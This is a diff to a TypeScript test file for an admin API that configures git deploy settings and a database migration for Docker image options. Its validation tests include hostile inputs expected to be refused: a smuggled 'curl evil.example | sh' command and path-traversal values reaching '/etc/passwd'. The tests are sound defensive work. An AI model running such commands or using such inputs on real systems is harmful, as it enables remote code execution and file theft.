@@ -54,7 +54,7 @@ describe('capabilities of image options', () => {
     }
     const missing = await admin.json<{ errors: Record<string, string[]> }>('PATCH', path, {});
     expect(missing.status).toBe(422);
-    expect(Object.keys(missing.body.errors)).toEqual(['capabilities']);
+    expect(Object.keys(missing.body.errors)).toEqual(['body']);
     // Nothing changed by the refusals: the migration's default is still there.
     expect((await options()).find((option) => option.id === id)?.capabilities).toEqual(PREVIOUS_SET);
 
@@ -92,6 +92,93 @@ describe('capabilities of image options', () => {
     const calls = stack.agent.callsOf('createContainer').slice(before);
     expect(calls).toHaveLength(1);
     expect((calls[0]?.request as CreateContainerRequest).capabilities).toEqual({ add: ['SETGID', 'SETUID'] });
+  });
+});
+
+describe('git deploy settings of image options (issue 23)', () => {
+  const none = { webRoot: null, afterUpdate: null, keepPaths: [], buildCommand: null, buildOutput: null };
+
+  it('lists where each seeded option puts deployed code: /www for the static site, /var/www/html keeping uploads and settings for WordPress, none for Node', async () => {
+    const list = await options();
+    expect(list.find((option) => option.id === IMAGE.static)?.deploy).toEqual({ ...none, webRoot: '/www' });
+    expect(list.find((option) => option.id === IMAGE.wordpress)?.deploy).toEqual({ ...none, webRoot: '/var/www/html', keepPaths: ['wp-content/uploads', 'wp-config.php', '.env'] });
+    expect(list.find((option) => option.id === IMAGE.node)?.deploy).toEqual(none);
+  });
+
+  it('lets admins change them (normalized, audited, capabilities untouched); others get 401/403; bad paths and commands are a 422 per field that changes nothing', async () => {
+    const [row] = await stack.database.knex('docker_images').insert({ name: 'Deploy (test)', image: 'devplein/deploy:1', capabilities: ['CHOWN'] }).returning<{ id: number }[]>('id');
+    const id = Number(row?.id);
+    const path = `/api/admin/dockers/images/${id}`;
+    const settings = { webRoot: '/var/www/html/', afterUpdate: ' composer install --no-dev ', keepPaths: ['.env', 'storage/', '.env'], buildCommand: 'npm run build', buildOutput: 'dist' };
+
+    expect((await (await stack.anonymous()).api('PATCH', path, { deploy: settings })).status).toBe(401);
+    for (const email of [NOT_ACTIVATED, STUDENT, DEVELOPER]) {
+      expect((await (await stack.as(email)).api('PATCH', path, { deploy: settings })).status, email).toBe(403);
+    }
+    const refusals: Array<[unknown, string]> = [
+      [{ webRoot: '/etc' }, 'deploy.webRoot'],
+      [{ webRoot: '/var/www/../../etc' }, 'deploy.webRoot'],
+      [{ webRoot: 'www' }, 'deploy.webRoot'],
+      [{ keepPaths: ['../../etc/passwd'] }, 'deploy.keepPaths'],
+      [{ afterUpdate: 'composer install\ncurl evil.example | sh' }, 'deploy.afterUpdate'],
+      [{ buildCommand: 'npm run build' }, 'deploy.buildOutput'],
+      ['/var/www/html', 'deploy'],
+    ];
+    for (const [deploy, field] of refusals) {
+      const answer = await admin.json<{ errors: Record<string, string[]> }>('PATCH', path, { deploy });
+      expect(answer.status, JSON.stringify(deploy)).toBe(422);
+      expect(Object.keys(answer.body.errors), JSON.stringify(deploy)).toEqual([field]);
+    }
+    expect((await options()).find((option) => option.id === id)?.deploy).toEqual(none);
+
+    const changed = await admin.json<DockerImageOption>('PATCH', path, { deploy: settings });
+    const saved = { webRoot: '/var/www/html', afterUpdate: 'composer install --no-dev', keepPaths: ['.env', 'storage'], buildCommand: 'npm run build', buildOutput: 'dist' };
+    expect(changed).toMatchObject({ status: 200, body: { id, capabilities: ['CHOWN'], deploy: saved } });
+    // Empty fields turn git deploy off again.
+    const off = await admin.json<DockerImageOption>('PATCH', path, { deploy: { webRoot: '', afterUpdate: '', keepPaths: [] } });
+    expect(off).toMatchObject({ status: 200, body: { deploy: none } });
+
+    const audit = await stack.database.knex('audit_log').where({ subject_type: 'docker_image', subject_id: String(id), action: 'docker-image.deploy' }).orderBy('id').select('before', 'after');
+    expect(audit).toHaveLength(2);
+    expect(audit[0]).toMatchObject({ before: { deploy_web_root: null }, after: { deploy_web_root: '/var/www/html', deploy_keep_paths: ['.env', 'storage'] } });
+    expect(audit[1]).toMatchObject({ before: { deploy_web_root: '/var/www/html' }, after: { deploy_web_root: null, deploy_keep_paths: [] } });
+    expect((await admin.json('PATCH', '/api/admin/dockers/images/987654', { deploy: settings })).status).toBe(404);
+  });
+
+  it('takes them when an option is added, none when not given', async () => {
+    const made = await admin.json<DockerImageOption>('POST', '/api/admin/dockers/images', { name: 'Laravel', image: 'devplein/laravel:11', deploy: { webRoot: '/var/www/html', afterUpdate: 'composer install --no-dev' } });
+    expect(made).toMatchObject({ status: 201, body: { deploy: { ...none, webRoot: '/var/www/html', afterUpdate: 'composer install --no-dev' } } });
+    const plain = await admin.json<DockerImageOption>('POST', '/api/admin/dockers/images', { name: 'Zonder deploy', image: 'devplein/zonder:1' });
+    expect(plain).toMatchObject({ status: 201, body: { deploy: none } });
+    const refused = await admin.json<{ errors: Record<string, string[]> }>('POST', '/api/admin/dockers/images', { name: 'Fout pad', image: 'devplein/fout:1', deploy: { webRoot: '/' } });
+    expect(refused.status).toBe(422);
+    expect(Object.keys(refused.body.errors)).toEqual(['deploy.webRoot']);
+    expect(await stack.database.knex('docker_images').where('name', 'Fout pad').first('id')).toBeUndefined();
+  });
+});
+
+describe('migration 0017_image_deploy_settings', () => {
+  it('gives the static busybox options /www and WordPress options /var/www/html with what they keep; others none', async () => {
+    const database = await createTestDatabase();
+    try {
+      const { knex } = database;
+      await knex.migrate.down({ migrationSource, name: '0017_image_deploy_settings' });
+      expect(await knex.schema.hasColumn('docker_images', 'deploy_web_root')).toBe(false);
+      await knex('docker_images').insert([
+        { name: 'Oud statisch', image: 'devplein/static:1.0' },
+        { name: 'Oude WordPress', image: 'school/wp:5', wordpress: true },
+        { name: 'Oud PHP', image: 'school/php:7' },
+      ]);
+      expect(await migrate(knex)).toEqual(['0017_image_deploy_settings']);
+      const rows = await knex('docker_images').whereIn('name', ['Oud statisch', 'Oude WordPress', 'Oud PHP']).orderBy('name').select('name', 'deploy_web_root', 'deploy_keep_paths');
+      expect(rows).toEqual([
+        { name: 'Oud PHP', deploy_web_root: null, deploy_keep_paths: [] },
+        { name: 'Oud statisch', deploy_web_root: '/www', deploy_keep_paths: [] },
+        { name: 'Oude WordPress', deploy_web_root: '/var/www/html', deploy_keep_paths: ['wp-content/uploads', 'wp-config.php', '.env'] },
+      ]);
+    } finally {
+      await database.destroy();
+    }
   });
 });
 
